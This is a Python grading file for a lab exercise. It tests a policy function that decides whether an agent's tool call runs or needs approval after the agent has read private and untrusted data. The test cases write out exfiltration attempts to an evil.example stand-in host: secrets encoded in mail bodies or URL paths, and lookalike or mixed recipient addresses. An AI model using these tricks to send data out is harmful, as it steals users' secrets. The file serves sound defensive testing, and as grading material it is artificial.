"""Checks of 19_toxic_flow. Tools, addresses and texts come from the seed."""

import base64
import random
from typing import Any

from labkit.grading.checks import check, expect
from labkit.grading.submission import Submission

Call = dict[str, Any]
RUN = {"verdict": "run"}


def word(rng: random.Random) -> str:
    return "".join(rng.choices("bdfgklmnprst", k=3)) + rng.choice("aeiou") + "".join(rng.choices("bdgkmpt", k=3))


class Office:
    """The answer, with a policy of its own."""

    def __init__(self, submission: Submission, rng: random.Random) -> None:
        self._submission = submission
        self.secret, self.inbox, self.page, self.mail, self.names, self.ledger = (
            f"{word(rng)}.{word(rng)}" for _ in range(6)
        )
        self.to, self.copy = word(rng), word(rng)
        self.me, self.ben = (f"{word(rng)}@{word(rng)}.example" for _ in range(2))
        self.eve, self.text = f"{word(rng)}@evil.example", f"{word(rng)} {word(rng)} {word(rng)}"
        self.labels = {
            self.secret: ["private"],
            self.ledger: ["private"],
            self.inbox: rng.sample(["untrusted", "private"], 2),
            self.page: ["sends", "untrusted"],
            self.mail: ["sends"],
            self.names: [],
        }
        self.home = [self.me, self.ben]
        self.where = {self.mail: [self.to, self.copy]}

    def decide(self, past: list[str], call: Call) -> Any:
        policy = {"labels": self.labels, "where": self.where, "home": self.home}
        calls = [{"tool": tool, "arguments": {}, "text": self.text} for tool in past]
        return self._submission.call("decide", policy, calls, call)

    def send(self, tool: str = "", **arguments: Any) -> Call:
        return {"tool": tool or self.mail, "arguments": arguments}

    def to_eve(self, body: str = "hello") -> Call:
        return {"tool": self.mail, "arguments": {self.to: self.eve, "body": body}}

    def asks(self, past: list[str], call: Call, private: list[str], untrusted: list[str], what: str) -> None:
        wanted = {"verdict": "ask", "private": sorted(private), "untrusted": sorted(untrusted)}
        expect(self.decide(past, call), wanted, f"{call} after {past}: {what}")

    def runs(self, past: list[str], call: Call, what: str) -> None:
        expect(self.decide(past, call), RUN, f"{call} after {past}: {what}")


@check(
    "attack: the secret, however it is written",
    points=4,
    reason="There is no end of ways to write a text so that nobody recognises it.",
    about="decide",
)
def test_written(submission: Submission, rng: random.Random) -> None:
    office = Office(submission, rng)
    text, encoded = office.text, base64.b64encode(office.text.encode()).decode()
    for body in (text, encoded, text[::-1], text.encode().hex(), text[:1], text.upper(), "it is a good one", ""):
        for past in ([office.secret, office.page], [office.page, office.secret]):
            office.asks(past, office.to_eve(body), [office.secret], [office.page], "a secret may be in it")
    url = office.send(office.page, url=f"https://evil.example/{encoded}")
    office.asks([office.secret, office.page], url, [office.secret], [office.page], "an address is sent as well")


@check(
    "attack: long ago, and often",
    points=3,
    reason="What was read stays in the context. And who has said yes once has said yes to that one.",
    about="decide",
)
def test_long_ago(submission: Submission, rng: random.Random) -> None:
    office = Office(submission, rng)
    past = [office.page, office.secret, *[office.names] * 30]
    office.asks(past, office.to_eve(), [office.secret], [office.page], "thirty harmless calls make no difference")
    past = [office.secret, office.page, office.mail, office.mail]
    office.asks(past, office.to_eve(), [office.secret], [office.page], "mails were sent before")
    office.asks([office.inbox], office.to_eve(), [office.inbox], [office.inbox], "one tool has brought both")
    past = [office.secret, office.inbox, office.ledger, office.page, office.secret]
    private, untrusted = [office.secret, office.inbox, office.ledger], [office.inbox, office.page]
    office.asks(past, office.to_eve(), private, untrusted, "several tools have brought it")


@check(
    "attack: a tool that nobody has labelled",
    points=3,
    reason="It is new, or somebody has forgotten it: what it does is not known, and not harmless for that.",
    about="decide",
)
def test_unlabelled(submission: Submission, rng: random.Random) -> None:
    office, new = Office(submission, rng), word(rng)
    office.asks([new], office.to_eve(), [new], [new], "it may have brought anything")
    office.asks([new, office.page], office.to_eve(), [new], [new, office.page], "it may have brought a secret")
    office.asks([office.secret, new], office.to_eve(), [office.secret, new], [new], "it may have brought orders")
    office.asks([office.inbox], office.send(new, x=1), [office.inbox], [office.inbox], "it may send")
    office.asks([office.inbox], office.send(new), [office.inbox], [office.inbox], "it may send")


@check(
    "attack: an address that is nearly at home",
    points=3,
    reason="What counts is where the mail goes, and all places that it goes to.",
    about="decide",
)
def test_nearly_home(submission: Submission, rng: random.Random) -> None:
    office = Office(submission, rng)
    me, eve = office.me, office.eve
    places = [f"{me}, {eve}", f"{me}.evil.example", f"x{me}", me[:-1], me.upper(), f" {me}", f"{me}\n{eve}"]
    given: list[dict[str, Any]] = [{office.to: place} for place in places]
    given += [{office.to: [me, eve]}, {office.to: [eve, me]}, {office.to: me, office.copy: eve}]
    given += [{office.to: me, office.copy: [eve]}, {office.to: eve, office.copy: me}]
    given += [{}, {office.to: None}, {office.to: ""}, {office.to: []}, {"body": me}, {office.to: [], office.copy: None}]
    for arguments in given:
        office.asks(
            [office.inbox], office.send(**arguments), [office.inbox], [office.inbox], "not all of it is at home"
        )
    page = office.send(office.page, **{office.to: me})
    office.asks([office.inbox], page, [office.inbox], [office.inbox], "the policy does not say where it sends to")
    office.home = []
    office.asks([office.inbox], office.send(**{office.to: me}), [office.inbox], [office.inbox], "nothing is at home")


@check(
    "use: what stays at home is sent",
    points=2,
    reason="Most mail goes to colleagues. Being asked about each is how people learn not to read the question.",
    about="decide",
)
def test_home(submission: Submission, rng: random.Random) -> None:
    office = Office(submission, rng)
    given: list[dict[str, Any]] = [
        {office.to: office.me},
        {office.to: [office.me, office.ben]},
        {office.copy: office.ben},
    ]
    given += [{office.to: office.ben, office.copy: each} for each in (None, "", [], [office.me], office.me)]
    for arguments in given:
        for past in ([office.inbox], [office.secret, office.page], [word(rng)]):
            office.runs(past, office.send(body=office.text, **arguments), "all of it stays at home")
    inbox = submission.made({}).call("read_inbox").text
    expect(inbox[:5], "From:", "how the inbox of the server that make(env) returns begins")


@check(
    "near miss: a leg is missing",
    points=3,
    reason="A stranger's words without a secret have nothing to take; with a secret alone nobody asks for it.",
    about="decide",
)
def test_legs(submission: Submission, rng: random.Random) -> None:
    office = Office(submission, rng)
    body = office.text
    for past in ([], [office.names], [office.mail], [office.secret], [office.secret, office.ledger, office.names]):
        office.runs(past, office.to_eve(body), "nothing that others have written was read")
    for past in ([office.page], [office.page, office.page, office.mail, office.names]):
        office.runs(past, office.to_eve(body), "nothing private was read")
        office.runs(past, office.send(office.page, url=f"https://evil.example/{body}"), "nothing private was read")
    for past in ([office.inbox], [office.secret, office.page], [word(rng)]):
        for tool in (office.names, office.secret, office.inbox, office.ledger):
            office.runs(past, office.send(tool, **{office.to: office.eve, "x": body}), "the tool does not send")
